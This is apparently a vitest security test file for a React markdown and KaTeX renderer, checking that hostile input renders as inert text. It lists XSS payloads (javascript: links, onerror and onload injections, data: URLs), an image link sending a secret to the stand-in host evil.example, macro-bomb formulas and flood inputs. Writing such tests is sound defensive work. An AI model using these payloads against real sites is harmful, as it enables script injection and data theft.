import { renderToString } from "katex";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test, vi } from "vitest";
import { en } from "#app/_i18n/en.ts";
import { TextProvider } from "#app/_i18n/text-provider.tsx";
import { MarkdownBody } from "./markdown-body.tsx";
import { formulaOptions } from "./math/formula-options.ts";
import { advanceDocument } from "./parse/advance-document.ts";
import { markdownParser } from "./parse/markdown-parser.ts";

const html = (source: string, isStreaming = false) =>
  renderToStaticMarkup(
    <TextProvider language="en" catalogue={en}>
      <MarkdownBody source={source} isStreaming={isStreaming} />
    </TextProvider>,
  );

const LINKS = [
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](data:image/png;base64,AAAA)",
  "[x](//evil.example)",
  "[x](/api/auth/signout)",
  "[x](https://user:secret@evil.example)",
  "[x][ref]\n\n[ref]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "<https://user:secret@evil.example>",
  "https://user:secret@evil.example",
  "https://example.com/\u202Egnp.exe",
  "<https://example.com/\u2066x>",
];

test.each(LINKS)("%j is dead text", (source) => {
  for (const isStreaming of [false, true]) expect(html(source, isStreaming)).not.toMatch(/<a|href/);
});

const MARKUP = [
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<script>alert(1)</script>",
  "<a href='javascript:alert(1)'>x</a>",
  "text <b onmouseover=alert(1)>x</b>",
  "<!--><img src=x onerror=alert(1)>-->",
  "`<img src=x>`",
  "```html\n<img src=x onerror=alert(1)>\n```",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "| <img src=x> |\n|---|\n| <svg/onload=alert(1)> |",
  "$<img src=x onerror=alert(1)>$",
  '[a](https://a.example "\\"><img src=x onerror=alert(1)>")',
  '["><img src=x>](https://a.example/"><img)',
  "- [x] <img src=x>",
];

test.each(MARKUP)("%j shows as text", (source) => {
  expect(html(source)).not.toMatch(/<(?:img|script|b|svg(?! xmlns))[ >]|<[^>]* on\w+=/);
});

test.each([
  "![x](https://evil.example/?q=secret)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "![x](data:text/html,hi)",
  "![x](//evil.example/a.png)",
  "![x][ref]\n\n[ref]: https://evil.example/a.png",
])("%j fetches nothing", (source) => {
  expect(html(source)).not.toMatch(/<img|src=|url\(/);
});

test("an inline raster picture is shown", () => {
  expect(html("![x](data:image/png;base64,iVBORw0KGgo=)")).toContain('<img src="data:image/png;base64,iVBORw0KGgo="');
});

test.each([
  "\\href{javascript:alert(1)}{x}",
  "\\url{javascript:alert(1)}",
  "\\htmlClass{evil}{x}",
  "\\htmlId{evil}{x}",
  "\\htmlStyle{position:fixed}{x}",
  "\\htmlData{a=b}{x}",
  "\\includegraphics{https://evil.example/a.png}",
  "\\def\\a{\\a\\a}\\a",
  "\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}}}",
  "\\unknowncommand",
])("the formula %s is refused, so its source is shown", (source) => {
  expect(() => renderToString(source, formulaOptions(false))).toThrow();
});

test("a formula cannot make itself larger than the page, nor redefine another's commands", () => {
  expect(renderToString("\\rule{9999em}{9999em}", formulaOptions(true))).not.toContain(":9999");
  renderToString("\\gdef\\sin{evil}", formulaOptions(false));
  expect(renderToString("\\sin", formulaOptions(false))).not.toContain("evil");
});

const LENGTH = 100_000;
const FLOODS = [
  "[",
  "![",
  "](",
  "[a](",
  "*",
  "**a ",
  "_a ",
  "> ",
  "- ",
  "`",
  "$a ",
  "\\(",
  "$$a ",
  "<a",
  "&",
  "~~a ",
  "http://",
  "|a",
];

test.each(FLOODS)("a flood of %s costs work in proportion to its length", (piece) => {
  const skip = vi.spyOn(markdownParser.inline, "skipToken");
  const tokenize = vi.spyOn(markdownParser.inline, "tokenize");
  const source = piece.repeat(LENGTH / piece.length);
  for (const isOpen of [false, true]) expect(advanceDocument(null, source, isOpen).blocks.length).toBeLessThan(100);
  expect(skip.mock.calls.length + tokenize.mock.calls.length).toBeLessThan(2 * LENGTH);
  skip.mockRestore();
  tokenize.mockRestore();
});

test("quotes and lists nested beyond reason are cut, not rendered without end", () => {
  const depth = (source: string) => html(source).split(/<(?:blockquote|ul)/).length - 1;
  expect(depth("> ".repeat(5_000) + "x")).toBeLessThanOrEqual(100);
  expect(depth(Array.from({ length: 500 }, (_, index) => `${"  ".repeat(index)}- x`).join("\n"))).toBeLessThanOrEqual(
    100,
  );
});
